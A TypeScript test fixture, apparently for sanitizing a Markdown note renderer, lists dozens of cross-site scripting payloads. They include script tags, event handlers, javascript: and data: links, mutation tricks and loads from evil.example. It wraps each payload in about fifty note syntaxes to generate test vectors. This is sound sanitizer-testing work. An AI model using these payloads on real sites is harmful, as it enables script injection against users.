/** Injected code, in every place of a note from which text reaches a page. */

/** What is tried: each would run, load or break out if it were kept as it is. */
export const payloads: readonly string[] = [
  '<script>run()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>run()</script>',
  '<img src=x onerror=run()>',
  '<img src="x" ONERROR="run()"/',
  '<img/src="x"/onerror=run()>',
  '<img src=x\nonerror=run()>',
  '"><img src=x onerror=run()>',
  "'><img src=x onerror=run()>",
  '" onmouseover="run()',
  "' onfocus='run()' autofocus='",
  '<svg onload=run()>',
  '<svg><script>run()</script></svg>',
  '<svg><a xlink:href="javascript:run()"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:run() /></svg>',
  '<svg><set attributeName=onmouseover to=run() /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=run()>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=run()&gt;">',
  '<math href="javascript:run()">x</math>',
  '<a href="javascript:run()">x</a>',
  '<a href="JaVaScRiPt:run()">x</a>',
  '<a href="java\tscript:run()">x</a>',
  '<a href="&#106;avascript:run()">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;run()">x</a>',
  '<a href=" javascript:run()">x</a>',
  '<a href="\u0001javascript:run()">x</a>',
  '<a href="vbscript:run()">x</a>',
  '<a href="data:text/html,<script>run()</script>">x</a>',
  '<iframe src="javascript:run()"></iframe>',
  '<iframe srcdoc="<script>run()</script>"></iframe>',
  '<object data="data:text/html,<script>run()</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:run()">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:run())">x</div>',
  '<div style="width:expression(run())">x</div>',
  '<form action="javascript:run()"><button>x</button></form>',
  '<button formaction="javascript:run()">x</button>',
  '<input onfocus=run() autofocus>',
  '<video><source onerror=run()></video>',
  '<audio src=x onerror=run()>',
  '<details open ontoggle=run()>x</details>',
  '<template><img src=x onerror=run()></template>',
  '<noscript><p title="</noscript><img src=x onerror=run()>">',
  '<textarea><img title="</textarea><img src=x onerror=run()>">',
  '<!--><img src=x onerror=run()>-->',
  '<![CDATA[><img src=x onerror=run()>]]>',
  '</main></body><script>run()</script>',
  '[x](javascript:run())',
  '[x](<java\nscript:run()>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:run())',
  '<javascript:run()>',
  '[[javascript:run()]]',
  '{run()}',
];

/** Where it is tried, by name; `x` stands for what is injected. */
export const contexts: Readonly<Record<string, (x: string) => string>> = {
  text: (x) => x,
  'a sentence': (x) => `before ${x} after`,
  'a heading': (x) => `# ${x}`,
  'a list': (x) => `- a\n- ${x}`,
  'a task': (x) => `- [ ] ${x}\n- TODO ${x}`,
  'a quote': (x) => `> ${x}`,
  'a table': (x) => `| a |\n|---|\n| ${x} |`,
  'a label': (x) => `[${x}](http://a.b)`,
  'an address': (x) => `[a](${x})`,
  'an address in angles': (x) => `[a](<${x}>)`,
  'a title of a link': (x) => `[a](http://a.b "${x}")`,
  'a picture': (x) => `![${x}](${x} "${x}")`,
  'a reference': (x) => `[a][b] ![a][b]\n\n[b]: <${x}> "${x}"`,
  'a wiki link': (x) => `[[${x}]]`,
  'a label of a wiki link': (x) => `[[Note|${x}]]`,
  'an anchor': (x) => `[[Note#${x}]] [[Note#^${x}]]`,
  'an embed': (x) => `![[${x}]] ![[a.png|${x}]]`,
  'a tag': (x) => `#${x} #[[${x}]]`,
  'a footnote': (x) => `a[^1]^[${x}]\n\n[^1]: ${x}`,
  'a callout': (x) => `> [!${x}] ${x}\n> ${x}`,
  'a title of a callout': (x) => `> [!note] ${x}`,
  'an admonition': (x) => `\`\`\`ad-note\ntitle: ${x}\n${x}\n\`\`\``,
  'marked text': (x) => `==${x}== **${x}** ~~${x}~~`,
  code: (x) => `\`${x}\`\n\n\`\`\`${x.split('\n')[0]}\n${x}\n\`\`\``,
  'a title of code': (x) => `\`\`\`js title="${x}"\n${x}\n\`\`\``,
  'a formula': (x) => `$${x}$ and $$\n${x}\n$$`,
  'a link in a formula': (x) => `$\\href{${x}}{a} \\htmlClass{${x}}{a} \\includegraphics{${x}}$`,
  'a diagram': (x) => `\`\`\`mermaid\ngraph LR\n a["${x}"] --> b\n click a "${x}"\n\`\`\``,
  'a comment': (x) => `%%${x}%% <!-- ${x} -->`,
  'an attribute': (x) => `<span title="${x}" class="${x}" id="${x}">a</span>`,
  'an attribute without quotes': (x) => `<span title=${x}>a</span>`,
  'an element': (x) => `<div>${x}</div>`,
  'a table of HTML': (x) => `<table>${x}<tr><td>${x}</td></tr></table>`,
  'an element that is not closed': (x) => `<b><i>${x}`,
  'a field': (x) => `about:: ${x}\n[about:: ${x}] (about:: ${x})`,
  'a property': (x) => `---\nabout: ${JSON.stringify(x)}\n---\na`,
  'a list of properties': (x) =>
    `---\ntags: [${JSON.stringify(x)}]\naliases: [${JSON.stringify(x)}]\n---\na`,
  'facts of the page': (x) => {
    const keys = ['title', 'description', 'image', 'icon', 'permalink', 'lang', 'cssclasses'];
    return `---\n${keys.map((key) => `${key}: ${JSON.stringify(x)}`).join('\n')}\n---\na`;
  },
  'page properties': (x) => `title:: ${x}\nicon:: ${x}\ntags:: ${x}\nalias:: ${x}\n\n- a`,
  'a block': (x) => `- ${x}\n  id:: ${x}\n  background-color:: ${x}`,
  'a reference to a block': (x) => `((${x})) {{embed ((${x}))}}`,
  'a macro': (x) => `{{${x}}} {{youtube ${x}}} {{renderer :${x}, ${x}}} {{tweet ${x}}}`,
  'a query': (x) => `{{query ${x}}}\n\n\`\`\`dataview\nTABLE ${x} FROM #a\n\`\`\``,
  'a base': (x) => `\`\`\`base\nviews:\n  - type: table\n    name: ${JSON.stringify(x)}\n\`\`\``,
  'an org block': (x) =>
    `#+BEGIN_${x}\n${x}\n#+END_${x}\n\n#+BEGIN_EXPORT html\n${x}\n#+END_EXPORT`,
  hiccup: (x) =>
    `[:div {:onclick ${JSON.stringify(x)} :href ${JSON.stringify(x)}} ${JSON.stringify(x)}]`,
  'a drawer': (x) => `:PROPERTIES:\n:a: ${x}\n:END:`,
  'a template': (x) => `<% ${x} %> {{${x}}}`,
};

export interface Vector {
  readonly context: string;
  readonly payload: string;
  readonly source: string;
}

/** Every payload in every place whose name contains `part`. */
export function vectors(part = ''): Vector[] {
  return Object.entries(contexts)
    .filter(([context]) => context.includes(part))
    .flatMap(([context, put]) => {
      return payloads.map((payload) => ({ context, payload, source: put(payload) }));
    });
}
